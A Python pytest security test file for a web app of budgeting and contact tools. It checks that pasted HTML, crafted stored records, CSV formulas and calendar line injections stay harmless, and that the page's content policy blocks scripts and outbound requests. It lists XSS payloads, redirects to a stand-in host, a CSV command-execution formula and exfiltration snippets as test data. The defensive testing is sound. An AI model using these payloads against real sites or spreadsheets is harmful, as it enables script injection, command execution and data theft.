"""What a stranger can put before the tools: pasted HTML, links, records, tables.  It stays text; and if it did not, the policy would
let it neither run nor send anything.  What goes out as a file harms no spreadsheet and no calendar."""

import csv
import http.server
import io
import json
import threading

import pytest

from ashore import tools
from ashore.view import export
from ashore.view.fields import FormError
from ashore.words import page as words
from ashore.words import pick
from bench.fuzz import texts
from browser.harness import eventually

HACK = "globalThis.hacked=1"
HOSTILE = (
    f"<script>{HACK}</script>", f"<img src=x onerror={HACK}>", f'"><svg onload={HACK}>', f"'><b onclick={HACK}>x", f"</textarea><script>{HACK}</script>", f"</pre><iframe onload={HACK}>",
    f"javascript:{HACK}", f"<a href=javascript:{HACK}>x</a>", f"[x](javascript:{HACK})", f"${{{HACK}}}{{{{{HACK}}}}}", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//x.cn>", "<base href=//x.cn>", "<form action=//x.cn><button>x", "<template><b>", "&lt;img src=x&gt;<!--",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("//x.cn")', "=cmd|'/c calc'!A0", "＝1+1", "＋1", "－x", "＠x", 'a";=1+1', "a;=1+1", "a\t=1+1", "a\n=1+1", "a,=1+1")
STARTS = "=+-@\t\r\n＝＋－＠"

# What the page does with every text control of a tool, those of hidden fields too.
FILL = """(text) => {
  for (const control of document.querySelectorAll(".ashore-form :is(input[type=text]:not([inputmode]), textarea)")) control.value = text;
  document.querySelector(".ashore-form").dispatchEvent(new Event("input", { bubbles: true }));
}"""
# What no tool may hold, once it is alive: elements that run, load or send, attributes that run, links elsewhere.
FOUND = """() => {
  const found = [];
  for (const part of document.querySelectorAll(".ashore-tool *")) {
    if (part.matches("script, img, iframe, style, meta, base, object, embed, link, math, form:not(.ashore-form), template:not(.ashore-rows > template)") && !part.closest(".ashore-plot")) found.push(part.outerHTML);
    if ([...part.attributes].some(({ name }) => name.startsWith("on"))) found.push(part.outerHTML);
    if (part.href && !["http:", "tel:"].includes(new URL(part.href).protocol)) found.push(part.outerHTML);
  }
  if (globalThis.hacked) found.push("it ran");
  return found;
}"""


def say(key, lang="en"):
    return pick(words.WORDS[key], lang)


def has_texts(fields):
    return any(field.kind == "text" or field.kind == "rows" and has_texts(field.fields) for field in fields)


WITH_TEXTS = [tool for tool in tools.IDS if has_texts(tools.load(tool).FORM.fields)]


def settled(page):
    """Until the tool has answered, or said what is wrong, and is at rest."""
    status = page.locator(".ashore-desk .ashore-status")
    eventually(lambda: status.inner_text() not in (say("status.waiting"), say("status.static")), 30)
    said = status.inner_text()
    assert not said.startswith((say("status.broken"), say("status.failed"), say("status.slow"))), said
    return said


@pytest.mark.parametrize("tool", WITH_TEXTS)
def test_pasted_code_is_only_text(open_tool, tool):
    page = open_tool(f"{tool}-en")
    address, shown = page.url, 0
    page.evaluate("document.querySelectorAll('.ashore-form details').forEach((fold) => { fold.open = true; })")
    for text in HOSTILE:
        page.evaluate(FILL, text)
        page.wait_for_timeout(250)
        settled(page)
        assert page.evaluate(FOUND) == [], text
        assert page.url == address
        shown += text in page.evaluate("document.querySelector('.ashore-view').textContent + [...document.querySelectorAll('.ashore-error')].map((one) => one.textContent).join()")
    # It is to be seen there as it was typed; in drill and role-play only in the words of a mistake.
    assert shown or tool in ("drill", "role-play", "contact-log")


RECORDS = [
    {"version": 1, "forms": {}, "parts": {"debts": [{"name": HOSTILE[1], "balance": HOSTILE[0], "kind": HOSTILE[2], "id": "__proto__"}], "capacity": HOSTILE[0], "my_name": HOSTILE[1], "contacts": [{"said": HOSTILE[1]}]}},
    {"version": 1, "forms": {tool: {"debts": HOSTILE[0], "text": HOSTILE[1], "kind": HOSTILE[2]} for tool in tools.IDS}, "parts": {"debts": "x", "people": [], "capacity": {"a": "b"}, "incomes": [[], None, 7, "x"]}},
    {"version": 1, "forms": [], "parts": []}, {"version": 1, "forms": None, "parts": 7}, {"version": 2}, [], None, 7, "x",
]
STORED = [json.dumps(record) for record in RECORDS] + ["{", "", '{"version":1,"parts":{"__proto__":{"polluted":"1"},"debts":[{"__proto__":{"polluted":"1"}}]}}']


@pytest.mark.parametrize("tool", tools.IDS)
def test_a_crafted_record_in_the_browser_harms_no_tool(open_tool, tool):
    page = open_tool(f"{tool}-en")
    for text in STORED:
        page.evaluate("(text) => localStorage.setItem('ashore.record', text)", text)
        page.reload()
        settled(page)
        assert page.evaluate(FOUND) == [] and page.evaluate("({}).polluted") is None, text


@pytest.fixture
def elsewhere():
    """The address of another server, and the list of what it was asked."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(HACK.encode())

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


def element(tag, attributes, text=""):
    return f"(() => {{ const part = document.createElement('{tag}'); Object.assign(part, {attributes}); part.textContent = {json.dumps(text)}; document.body.append(part); return part; }})()"


def later(script):
    """As code of the page itself: for what a test evaluates directly, the browser sets this part of the policy aside."""
    return f"new Promise((done, fail) => setTimeout(() => {{ try {{ {script}; done(); }} catch (problem) {{ fail(problem); }} }}))"


# Of these a browser says nothing when it refuses them, or does nothing by itself.
SILENT = ("another base", "a frame with its own text", "a manifest")
RUNS = {
    "an inline script": element("script", "{}", HACK),
    "a script from elsewhere": element("script", "{ src: there }"),
    "a script in a data address": element("script", f"{{ src: 'data:text/javascript,{HACK}' }}"),
    "a script in a blob": element("script", f"{{ src: URL.createObjectURL(new Blob(['{HACK}'])) }}"),
    "an attribute": f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror={HACK}>')",
    "a link with javascript:": element("a", f"{{ href: 'javascript:{HACK}' }}", "x") + ".click()",
    "a frame with its own text": element("iframe", f"{{ srcdoc: '<script>parent.{HACK.partition('.')[2]}</script>' }}"),
    "eval": later(f"eval('{HACK}')"),
    "Function": later(f"new Function('{HACK}')()"),
    "a timer with text": f"setTimeout('{HACK}')",
    "an import": "import(there)",
    "an import of a data address": f"import('data:text/javascript,{HACK}')",
    "a worker from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${there}')`])))",
}
SENDS = {
    "fetch": "fetch(there)",
    "fetch without an answer": "fetch(there, { mode: 'no-cors', method: 'POST', body: 'secret' })",
    "XMLHttpRequest": "(() => { const asked = new XMLHttpRequest(); asked.open('GET', there); asked.send(); })()",
    "a beacon": "navigator.sendBeacon(there, 'secret')",
    "a socket": "new WebSocket(there.replace('http', 'ws'))",
    "an event stream": "new EventSource(there)",
    "a picture": element("img", "{ src: there }"),
    "a style sheet": element("link", "{ rel: 'stylesheet', href: there }"),
    "a picture of a style": element("p", "{ style: `background: url(${there})` }", "x"),
    "a frame": element("iframe", "{ src: there }"),
    "a form": element("form", "{ action: there, method: 'post' }") + ".submit()",
    "an object": element("object", "{ data: there }"),
    "a film": element("video", "{ src: there }"),
    "a letter": "new FontFace('x', `url(${there})`).load()",
    "what is fetched ahead": element("link", "{ rel: 'prefetch', href: there }"),
    "what is loaded ahead": element("link", "{ rel: 'preload', as: 'image', href: there }"),
    "a manifest": element("link", "{ rel: 'manifest', href: there }"),
    "a worker": "new Worker(there)",
    "another base": "(() => { " + element("base", "{ href: there + '/' }") + "; " + element("img", "{ src: 'x' }") + "; })()",
}


@pytest.mark.parametrize("what", [*RUNS, *SENDS])
def test_the_policy_lets_nothing_run_and_nothing_out(open_tool, elsewhere, what):
    """As if something had got in all the same: the script of the test stands where no other can."""
    address, asked = elsewhere
    page = open_tool("payoff-en", watched=False)
    before = page.url
    page.evaluate(f"""async (there) => {{
      globalThis.refused = 0;
      addEventListener("securitypolicyviolation", () => {{ globalThis.refused++; }});
      try {{ await ({{...RUNS, ...SENDS}}[what]); }} catch {{ globalThis.refused++; }}
    }}""".replace("{...RUNS, ...SENDS}[what]", {**RUNS, **SENDS}[what]), address)
    eventually(lambda: page.evaluate("globalThis.refused") or what in SILENT)
    page.wait_for_timeout(300)
    assert page.evaluate("globalThis.hacked") is None and asked == [] and page.url == before


# Files that go out

def filled(fields, text):
    """A form with the text in every text field, also of rows."""
    return {field.id: [{**row, **filled(field.fields, text)} for row in field.initial("en") or [{}]] if field.kind == "rows" else text[:field.high]
            for field in fields if field.kind == "text" and not field.file and field.high > 5 or field.kind == "rows" and has_texts(field.fields)}


def files(blocks, mime):
    for block in blocks:
        if block["type"] == "file" and block["mime"] == mime:
            yield block["text"]
        yield from files(block.get("blocks", ()), mime)


def answers(tool, text):
    form = tools.load(tool).FORM
    try:
        return tools.run(tool, {**form.initial("en"), **filled(form.fields, text)}, "en")["blocks"]
    except FormError:
        return []


def test_no_file_for_a_spreadsheet_holds_a_formula():
    cases = cells = 0
    for tool in WITH_TEXTS:
        for text in FORMULAS:
            for content in files(answers(tool, text), "text/csv"):
                cases += 1
                for row in csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")):
                    cells += len(row)
                    assert all(cell[:1] not in tuple(STARTS) or cell.replace("-", "", 1).replace(".", "", 1).isdecimal() for cell in row), (tool, text, row)
    assert cases >= len(FORMULAS) and cells > 1_000


LINE_ENDS = ("\n", "\r\n", "\r")


@pytest.mark.parametrize("mark", LINE_ENDS)
def test_no_file_for_a_calendar_gets_entries_or_lines_from_a_text(mark):
    text = f"pay{mark}END:VEVENT{mark}BEGIN:VEVENT{mark}URL:x"
    content = export.calendar_text([export.event("a", 20_000, text, alarm_days=3)])
    lines = content.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    assert [line for line in lines if line.startswith("BEGIN:")] == ["BEGIN:VCALENDAR", "BEGIN:VEVENT", "BEGIN:VALARM"]
    assert not [line for line in lines if line.startswith("URL")]


def tables(text):
    """Tables that somebody could send: with the text in every place of a row, as a whole row, as rows, with quotes left open."""
    table = io.StringIO()
    csv.writer(table).writerows([["time", "way", "who", "connected", "said"], ["2026-11-01 10:00", "call", text, "yes", text], [text, text, "me", text, text]])
    return table.getvalue(), text, text + "\n" + text, '"' + text


@pytest.mark.parametrize("text", [*HOSTILE, *FORMULAS])
def test_a_crafted_table_of_contacts_is_text_or_a_mistake_in_words(text):
    for content in tables(text):
        try:
            told = list(texts(tools.run("contact-log", {"csv": content}, "en")["blocks"]))
            for content in files(tools.run("contact-log", {"csv": content}, "en")["blocks"], "text/csv"):
                assert all(cell[:1] not in tuple(STARTS) or cell.lstrip("-").isdecimal() for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))) for cell in row)
        except FormError as error:
            told = [message for _, message in error.errors]
        assert told and all(told is not None for told in told)


def attempts():
    """How many attempts of each kind are made here, for the quality page (`python -m bench injection`)."""
    return {
        "pasted": len(HOSTILE) * len(WITH_TEXTS),
        "record": len(STORED) * len(tools.IDS),
        "run": len(RUNS),
        "send": len(SENDS),
        "formula": len(FORMULAS) * len(WITH_TEXTS),
        "calendar": len(LINE_ENDS),
        "table": sum(len(tables(text)) for text in (*HOSTILE, *FORMULAS)),
    }
